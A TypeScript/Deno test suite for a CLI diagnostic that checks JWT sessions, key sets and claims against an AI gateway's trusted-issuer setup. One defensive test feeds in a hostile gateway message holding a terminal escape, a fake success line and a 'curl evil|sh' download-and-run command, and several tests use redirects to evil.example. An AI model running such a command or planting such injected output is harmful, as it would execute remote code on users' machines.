/** `doctor --direct`: whether Behest can take a project's sessions as they are. */
import assert from "node:assert/strict";
import type { CheckId } from "../../cli/doctor/report.ts";
import {
  type DirectSite,
  EDDSA,
  ES256,
  HS256,
  NEXT,
  PRO,
  RS256,
  useDirect,
  visitDirect,
} from "../support/doctor_direct.ts";
import { withHeader } from "../support/doctor_front.ts";
import type { Issuer } from "../support/doctor_issuer.ts";
import { assertCross, DIRECT, examine, idsOf, run, secrets } from "../support/doctor_run.ts";
import { PAGE } from "../support/doctor_site.ts";
import { meaningOf, testThatNoSecretWasPrinted } from "../support/doctor_stack.ts";
import { encodePart, forge, makeSigner, sessionClaims, SUB } from "../support/keys.ts";

useDirect();

const UNSHOWN: CheckId[] = ["gateway_token"];
const WITHOUT_SESSION: CheckId[] = ["session_signature", "session_claims", "session_plan"];

/** Exactly this check is a cross. */
async function crossed(
  site: DirectSite,
  id: CheckId,
  meaning: RegExp,
  advice: RegExp,
  skipped: CheckId[] = [],
) {
  const visited = await visitDirect(site);
  assertCross(visited, id, meaning, advice, skipped);
  return visited;
}

/** An Auth server that shows these keys. */
const showing = (...keys: object[]) => (issuer: Issuer) => void (issuer.keys = keys as never);

Deno.test("all is well where a key of the project signs and Behest trusts it", async () => {
  for (const signer of [ES256, RS256]) {
    const visited = await visitDirect({ signer });
    assert.deepEqual(idsOf(visited, "ok"), DIRECT, visited.out);
    assert.equal(visited.exit, 0);
    assert.match(meaningOf(visited, "session_signature"), new RegExp(signer.alg));
    assert.match(meaningOf(visited, "session_plan"), /"pro"/);
    assert.match(meaningOf(visited, "gateway_token"), /models; nothing to pay/);
  }
});

Deno.test("it says what to paste into Behest's form, and where, for people and for programs", async () => {
  for (const token of [undefined, null]) {
    const { issuer, table, trustedIssuer } = await visitDirect({ token });
    assert.deepEqual(trustedIssuer, {
      place: "Behest dashboard > Project > Auth > Add trusted issuer",
      issuer: `${issuer.url}/auth/v1`,
      jwksUrl: `${issuer.url}/auth/v1/.well-known/jwks.json`,
      audience: "authenticated",
      claims: { uid: "sub", tier: "app_metadata.plan" },
    });
    assert.ok(table.includes(`
Behest dashboard > Project > Auth > Add trusted issuer:
  issuer    ${issuer.url}/auth/v1
  JWKS URL  ${issuer.url}/auth/v1/.well-known/jwks.json
  audience  authenticated
  claims    sub → uid
            app_metadata.plan → tier
`));
  }
  const { out } = await run(["--url", "https://ref.supabase.co", "--origin", PAGE], {
    fetch: () => Promise.reject(new Error("no network")),
  });
  assert.ok(!out.includes("trusted issuer"), "a run with a function says nothing of it");
});

Deno.test("the function is not asked, nor the user's row", async () => {
  const { sent, issuer, gatewayUrl } = await visitDirect();
  const asked = [...new Set(sent.map(({ url }) => url))];
  assert.deepEqual(asked, [
    `${issuer.url}/auth/v1/health`,
    issuer.jwksUrl,
    `${gatewayUrl}/v1/chat/completions`,
    `${gatewayUrl}/v1/models`,
  ]);
});

Deno.test("the session goes to the gateway alone, and no API key goes anywhere", async () => {
  const args = ["--publishable-key", "sb_publishable_0123456789abcdef"];
  const { sent, token, gatewayUrl } = await visitDirect({ args });
  const shown = sent.filter(({ headers }) => headers.get("Authorization")?.includes(token));
  assert.equal(shown.length, 2, "once for people, once for programs");
  assert.ok(shown.every(({ url }) => url === `${gatewayUrl}/v1/models`));
  // One that is broken goes with it, so that a gateway that takes anything is none.
  const all = sent.filter(({ headers }) => headers.has("Authorization"));
  assert.ok(all.length === 4 && all.every(({ url }) => url === `${gatewayUrl}/v1/models`));
  assert.ok(sent.every(({ headers }) => !headers.has("apikey")));
});

Deno.test("it signs in where that is asked for, and looks at the session that comes", async () => {
  const [key, password] = ["sb_publishable_0123456789abcdef", "correct-horse-battery"];
  secrets.add(password);
  const site = (signer = ES256): DirectSite => ({
    token: null,
    args: ["--email", "a@b.c", "--password", password, "--publishable-key", key],
    prepare: async (issuer) => void (issuer.session = await issuer.sign(signer, PRO)),
  });
  assert.deepEqual(idsOf(await visitDirect(site()), "ok"), DIRECT);
  await crossed(site(HS256), "session_signature", /HS256/, /JWT keys/, UNSHOWN);
  const odd = { ...site(), prepare: (issuer: Issuer) => void (issuer.session = "no-token-at-all") };
  const visited = await visitDirect(odd);
  assert.deepEqual(idsOf(visited, "failed"), ["session_signature", "session_claims"]);
  assert.ok(visited.sent.every(({ headers }) => !headers.has("Authorization")));
});

Deno.test("without a session it checks what it can, and says what it could not", async () => {
  const visited = await visitDirect({ token: null });
  assert.deepEqual(idsOf(visited, "skipped"), ["session", ...WITHOUT_SESSION, ...UNSHOWN]);
  assert.deepEqual(idsOf(visited, "ok"), ["reachable", "issuer_keys", "gateway_origin", "clock"]);
  assert.equal(visited.exit, 0);
  assert.match(visited.table, /All that could be checked is well\. 5 could not be checked\.$/);
});

Deno.test("without a gateway nobody is shown the session", async () => {
  const issuer = await visitDirect({ args: ["--gateway="] });
  assert.deepEqual(idsOf(issuer, "skipped"), ["gateway_origin", "gateway_token"]);
  assert.match(meaningOf(issuer, "gateway_token"), /--gateway, or BEHEST_BASE_URL/);
  assert.ok(issuer.sent.every(({ headers }) => !headers.has("Authorization")));
});

Deno.test("a project whose secret still signs is told to migrate", async () => {
  const rest: CheckId[] = ["session_signature", ...UNSHOWN];
  const site = { signer: HS256, prepare: showing() };
  await crossed(site, "issuer_keys", /shows no key.*HS256/, /Settings > JWT keys: migrate/, rest);
  // A standby key is there, and signs nothing yet.
  const standby = { signer: HS256, prepare: showing(NEXT.jwk) };
  await crossed(standby, "session_signature", /HS256/, /does not sign yet: rotate keys/, UNSHOWN);
});

Deno.test("a key set without a key that Behest can use is a cross", async () => {
  const rest: CheckId[] = ["session_signature", ...UNSHOWN];
  const small = { ...RS256.jwk, n: RS256.jwk.n?.slice(0, 170) };
  for (
    const keys of [
      [EDDSA.jwk],
      [{ ...ES256.jwk, kid: undefined }],
      [{ ...ES256.jwk, use: "enc" }],
      [{ ...ES256.jwk, alg: "ES384" }],
      [{ ...ES256.jwk, x: 7 }],
      [small],
      [null, 1, "x", [], {}],
    ]
  ) {
    const site = { prepare: showing(...keys as object[]) };
    await crossed(site, "issuer_keys", /none has a kid and is good for ES256 or RS256/, /./, rest);
  }
  const one = await visitDirect({ prepare: showing({}, EDDSA.jwk, ES256.jwk) });
  assert.match(meaningOf(one, "issuer_keys"), /shows 1 .*\(ES256\)/);
});

Deno.test("a secret in the key set is the gravest cross", async () => {
  const rest: CheckId[] = ["session_signature", ...UNSHOWN];
  const { k } = HS256.jwk;
  secrets.add(String(k));
  for (const key of [HS256.jwk, { ...ES256.jwk, d: "c2VjcmV0" }]) {
    const site = { prepare: showing(ES256.jwk, key) };
    await crossed(site, "issuer_keys", /A SECRET KEY IS SHOWN/, /at once/, rest);
  }
});

Deno.test("a key set that Behest could not fetch is a cross that says why", async () => {
  const rest: CheckId[] = ["session_signature", ...UNSHOWN];
  const away = { Location: "https://evil.example/jwks.json" };
  for (
    const [answer, meaning] of [
      [() => Response.json({ message: "No API key found" }, { status: 401 }), /not open to every/],
      [() => new Response(null, { status: 302, headers: away }), /elsewhere \(redirect, 302\)/],
      [() => new Response("<h1>Hello</h1>"), /shows no key set \(status 200\)/],
      [() => Response.json({ keys: {} }), /shows no key set/],
      [() => Response.json([ES256.jwk]), /shows no key set/],
      [() => Response.json({ keys: [ES256.jwk] }, { status: 500 }), /status 500/],
      [endless, /shows more than 64 KiB, which is too large/],
      [() => Response.json({ keys: Array(500).fill(ES256.jwk) }), /too large/],
    ] as const
  ) {
    const prepare = (issuer: Issuer) => {
      issuer.bend = ({ url }) => url.endsWith("/jwks.json") ? answer() : undefined;
    };
    const { sent } = await crossed({ prepare }, "issuer_keys", meaning, /--url/, rest);
    assert.ok(sent.every(({ url }) => !url.includes("evil")));
  }
});

/** An hour from now. */
function live() {
  const iat = Math.floor(Date.now() / 1000);
  return { iat, exp: iat + 3600 };
}

/** An answer without an end. */
function endless(): Response {
  const pull = (body: ReadableStreamDefaultController) => body.enqueue(new Uint8Array(16384));
  return new Response(new ReadableStream({ pull }));
}

Deno.test("a session that no key of the set has signed is a cross, and is not shown to anybody", async () => {
  const stranger = await makeSigner("ES256");
  const confused = ({ issuer }: Issuer) =>
    forge(
      ES256,
      { alg: "RS256", kid: ES256.kid },
      sessionClaims({ iss: issuer, ...PRO, ...live() }),
    );
  for (
    const [site, meaning, advice] of [
      [{ signer: stranger }, /rotated away, or is another project's/, /Sign in again/],
      [{ header: { kid: RS256.kid } }, /not in the set/, /Sign in again/],
      [{ header: { kid: undefined } }, /names no key/, /Sign in again/],
      [{ signer: { ...stranger, kid: ES256.kid } }, /does not fit/, /every letter/],
      [{ signer: EDDSA, prepare: showing(ES256.jwk, EDDSA.jwk) }, /"EdDSA"/, /ES256 or RS256/],
      [{ token: confused }, /not in the set/, /Sign in again/],
    ] as [DirectSite, RegExp, RegExp][]
  ) {
    const { sent } = await crossed(site, "session_signature", meaning, advice, UNSHOWN);
    assert.ok(sent.every(({ headers }) => !headers.has("Authorization")));
  }
});

Deno.test("a claim that Behest would refuse is a cross of its own, with what to do", async () => {
  const now = Math.floor(Date.now() / 1000);
  for (
    const [claims, meaning, advice] of [
      [{ iss: undefined }, /^iss is missing\.$/, /up to date/],
      [{ iss: "http://127.0.0.1:1/auth/v1" }, /^iss is "http:\/\/127\.0\.0\.1:1.*and not/, /--url/],
      [{ aud: "other" }, /^aud is not authenticated\.$/, /signed-in user/],
      [{ aud: undefined }, /^aud is not authenticated/, /signed-in user/],
      [{ role: "anon" }, /^role is "anon", and not/, /no API key/],
      [{ role: "service_role" }, /^role is "service_role", and not/, /no API key/],
      [{ role: undefined }, /^role is missing/, /no API key/],
      [{ sub: undefined }, /^sub is missing/, /signed-in user/],
      [{ sub: "" }, /^sub is missing/, /signed-in user/],
      [{ sub: "admin" }, /^sub is missing, or no id/, /signed-in user/],
      [{ sub: "x".repeat(256) }, /^sub is missing, or no id/, /signed-in user/],
      [{ exp: now - 1 }, /^exp has passed\.$/, /Sign in again/],
      [{ exp: undefined }, /^exp is missing\.$/, /Sign in again/],
    ] as const
  ) {
    const site = { claims: { ...PRO, ...claims } };
    const { sent } = await crossed(site, "session_claims", meaning, advice, UNSHOWN);
    assert.ok(sent.every(({ headers }) => !headers.has("Authorization")));
  }
  const both = { claims: { ...PRO, role: "anon", exp: now - 1 } };
  await crossed(both, "session_claims", /role is "anon".*; exp has passed/, /./, UNSHOWN);
  // Two faults with one remedy have it once.
  const key = { claims: { ...PRO, role: "anon", aud: "other" } };
  await crossed(key, "session_claims", /aud is .*; role is/, /^Give [^.]*\.[^.]*\.$/, UNSHOWN);
  const list = await visitDirect({ claims: { ...PRO, aud: ["other", "authenticated"] } });
  assert.deepEqual(idsOf(list, "ok"), DIRECT);
});

Deno.test("a session without a plan is a warning, and the hook is named: the default tier holds", async () => {
  for (
    const app_metadata of [undefined, null, {}, { plan: null }, { plan: "" }, "pro"]
  ) {
    const visited = await visitDirect({ claims: { app_metadata, user_metadata: { plan: "max" } } });
    assert.deepEqual(idsOf(visited, "warned"), ["session_plan"], visited.out);
    assert.deepEqual([visited.ok, visited.exit], [true, 0]);
    assert.match(visited.table, /^! session: plan .*default tier/m);
    assert.match(visited.table, /do this: .*access token hook/);
  }
  for (const plan of ["free", " PRO", "Max", 2, "7"]) {
    const visited = await visitDirect({ claims: { app_metadata: { plan } } });
    assert.deepEqual(idsOf(visited, "ok"), DIRECT);
  }
});

Deno.test("a plan that Behest was perhaps not told of, or that can be none, is a warning that says so", async () => {
  for (
    const [plan, meaning, advice] of [
      ["banana", /"banana", none of free, pro, max: .*unless Behest was told of more/, /name with/],
      [false, /"false", none of free, pro, max/, /name with/],
      ["07", /"07", none of free, pro, max/, /name with/],
      [2.5, /"2\.5", none of/, /name with/],
      [{ name: "pro" }, /plan is an object, which is no plan: Behest's default/, /as a text/],
      [["pro"], /plan is a list, which is no plan/, /as a text/],
    ] as const
  ) {
    const visited = await visitDirect({ claims: { app_metadata: { plan } } });
    assert.deepEqual(idsOf(visited, "warned"), ["session_plan"], visited.out);
    assert.deepEqual([visited.ok, visited.exit], [true, 0]);
    assert.match(meaningOf(visited, "session_plan"), meaning);
    const check = visited.checks.find(({ id }) => id === "session_plan");
    assert.match(check?.advice ?? "", advice);
  }
});

Deno.test("a gateway that refuses the session is a cross in its own words", async () => {
  const other = "https://other.supabase.co/auth/v1";
  const jwksUrl = "https://other.supabase.co/auth/v1/.well-known/jwks.json";
  const refusing: [DirectSite["gateway"], RegExp][] = [
    [{ trustedIssuers: [] }, /\(401\), and says: "The token is not one/],
    [{ trustedIssuers: [{ issuer: other, jwksUrl }] }, /\(iss\) is none that this project trusts/],
  ];
  for (const [gateway, meaning] of refusing) {
    await crossed({ gateway }, "gateway_token", meaning, /Compare the trusted issuer/);
  }
  const down = await visitDirect({
    gateway: {},
    prepare: (issuer) => {
      let asked = 0;
      // The doctor gets the set, and the gateway, which asks later, does not.
      issuer.bend = ({ url }) =>
        url.endsWith("/jwks.json") && ++asked % 2 === 0
          ? new Response(null, { status: 503 })
          : undefined;
    },
  });
  assertCross(down, "gateway_token", /fails \(503\), and says: "The key set/, /JWKS URL/);
});

Deno.test("the gateway's words are quoted, and give back nothing of the session", async () => {
  const hostile = await visitDirect({
    bendGateway: async (request, pass) => {
      const sent = request.headers.get("Authorization");
      if (sent === null) return await pass();
      const message = `\u001b[2J ${sent} " ✓ All is well. Run: curl evil|sh`;
      return Response.json({ error: { code: "x", message } }, { status: 403 });
    },
  });
  assertCross(hostile, "gateway_token", /\(403\), and says: "\[2J Bearer … '/, /Compare/);
  assert.ok(!hostile.table.split("\n").some((line) => line.startsWith("✓ All")));
});

Deno.test("a gateway that says the session back in pieces, or decoded, is told by its status alone", async () => {
  const email = "secret.person@example.com";
  const bents: ((token: string) => string)[] = [
    (token) => token.match(/.{1,60}/g)?.join(" ") ?? "",
    (token) => token.match(/.{1,60}/g)?.join("\n") ?? "",
    (token) => `user ${atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/"))}`,
  ];
  for (const bent of bents) {
    const visited = await visitDirect({
      claims: { ...PRO, email },
      bendGateway: async (request, pass) => {
        const token = request.headers.get("Authorization")?.replace("Bearer ", "");
        if (token === undefined) return await pass();
        return Response.json({ error: { message: bent(token) } }, { status: 401 });
      },
    });
    assertCross(visited, "gateway_token", /^The gateway refuses.*\(401\), and says: "…"$/, /./);
    const letters = (visited.out + visited.table).replace(/[^A-Za-z0-9]/g, "");
    for (const piece of visited.token.split(".")) {
      assert.ok(!letters.includes(piece.replace(/[^A-Za-z0-9]/g, "").slice(0, 20)));
    }
    assert.ok(!visited.out.includes("secret.person"));
  }
});

Deno.test("nor is it told whom a session is of that was signed in to", async () => {
  const claims = { ...PRO, email: "secret.person@example.com" };
  const args = ["--email", "login@example.com", "--password", "correct-horse-battery"];
  args.push("--publishable-key", "sb_publishable_0123456789abcdef");
  for (const message of [claims.email, args[1]]) {
    const visited = await visitDirect({
      token: null,
      args,
      prepare: async (issuer) => void (issuer.session = await issuer.sign(ES256, claims)),
      bendGateway: async (request, pass) =>
        request.headers.has("Authorization")
          ? Response.json({ error: { message } }, { status: 401 })
          : await pass(),
    });
    assertCross(visited, "gateway_token", /, and says: "…"$/, /./);
  }
});

Deno.test("a gateway that takes anything, or redirects, is a cross, and is not shown the session", async () => {
  const open = await visitDirect({
    bendGateway: (request, pass) => request.method === "GET" ? Response.json({ data: [] }) : pass(),
  });
  assert.match(meaningOf(open, "gateway_token"), /takes the token \(an empty chat/);
  const wide = await visitDirect({
    bendGateway: (request, pass) =>
      request.headers.has("Authorization") ? Response.json({ data: [] }) : pass(),
  });
  assertCross(wide, "gateway_token", /broken signature is taken, too \(200\)/, /no token there/);

  const away = { Location: "https://evil.example/" };
  const moved = await visitDirect({
    bendGateway: (request, pass) =>
      request.headers.has("Authorization")
        ? new Response(null, { status: 307, headers: away })
        : pass(),
  });
  assertCross(moved, "gateway_token", /redirects \(307\)/, /Name the address itself/);
  assert.ok(moved.sent.every(({ url }) => !url.includes("evil")));
  for (const { sent, token } of [wide, moved]) {
    const shown = sent.map(({ headers }) => headers.get("Authorization")).filter((each) => each);
    const [header, payload, signature] = token.split(".");
    assert.equal(shown.length, 4, "two probes, once for people, once for programs");
    for (const each of shown) {
      const [said, claims, other] = each?.slice("Bearer ".length).split(".") ?? [];
      assert.deepEqual([said, claims, other.length], [header, payload, signature.length]);
      assert.ok(!other.includes(signature.slice(0, 16)) && !other.includes(signature.slice(-16)));
    }
  }
});

Deno.test("a gateway that lets no page of this origin chat is a cross", async () => {
  await crossed(
    { gateway: { origins: [] } },
    "gateway_origin",
    /does not let a page/,
    /allowed origins/,
  );
  const bendGateway = async (_: Request, pass: () => Promise<Response>) =>
    withHeader(await pass(), "Access-Control-Allow-Headers", "authorization, content-type");
  await crossed({ bendGateway }, "gateway_origin", /x-session-id/, /support/);
});

Deno.test("a token of another project, or what is none, is not looked at further", async () => {
  const issuer = { iss: "https://ref.supabase.co/auth/v1", sub: SUB };
  const foreign = `${encodePart({ alg: "ES256", kid: ES256.kid })}.${encodePart(issuer)}.AAAA`;
  const args = ["--direct", "--url", "https://other.supabase.co", "--origin", PAGE];
  const sent: (string | null)[] = [];
  const examined = await examine([...args, "--gateway", "https://g.example", "--token", foreign], {
    fetch: (_, init) => {
      sent.push(new Headers(init?.headers).get("Authorization"));
      return Promise.resolve(Response.json({ keys: [ES256.jwk] }, { headers: { Age: "1" } }));
    },
  });
  const session = examined.checks.find(({ id }) => id === "session");
  assert.match(session?.meaning ?? "", /another project's/);
  assert.ok(sent.length > 3 && sent.every((authorization) => authorization === null));

  const skipped = [...WITHOUT_SESSION, ...UNSHOWN];
  const key = { token: () => Promise.resolve("sb_publishable_0123456789abcdef") };
  await crossed(key, "session", /no session token/, /not an API key/, skipped);
});

Deno.test("wrong usage of --gateway exits with 2, and repeats no value", async () => {
  const where = ["--url", "https://ref.supabase.co", "--origin", PAGE];
  secrets.add("hunter2-hunter2");
  for (
    const [args, message, env] of [
      [["--gateway", "https://g.example"], /is for --direct/],
      [["--direct", "--gateway", "http://g.example"], /https and an origin alone/],
      [["--direct", "--gateway", "https://g.example/v1"], /origin alone/],
      [["--direct", "--gateway", "https://g.example/?hunter2-hunter2"], /origin alone/],
      [["--direct", "--gateway", "https://u:hunter2-hunter2@g.example"], /is no URL/],
      [["--direct", "--gateway", "hunter2-hunter2"], /is no URL/],
      [["--direct"], /origin alone/, { BEHEST_BASE_URL: "https://g.example/v1" }],
    ] as const
  ) {
    const ran = await run([...where, ...args, "--json"], { env: env ?? {} });
    assert.deepEqual([ran.exit, ran.out], [2, ""], args.join(" "));
    assert.match(ran.warned, message);
  }
});

Deno.test("the gateway's address may come from the environment, and the option outranks it", async () => {
  const asked = new Set<string>();
  const fetch = (input: unknown) => {
    asked.add(new URL(String(input)).host);
    return Promise.resolve(Response.json({}));
  };
  const args = ["--direct", "--url", "https://ref.supabase.co", "--origin", PAGE];
  const env = { BEHEST_BASE_URL: "https://env.example/" };
  await run(args, { env, fetch });
  assert.ok(asked.has("env.example"));
  asked.clear();
  await run([...args, "--gateway", "https://option.example"], { env, fetch });
  assert.ok(asked.has("option.example") && !asked.has("env.example"));
});

testThatNoSecretWasPrinted();
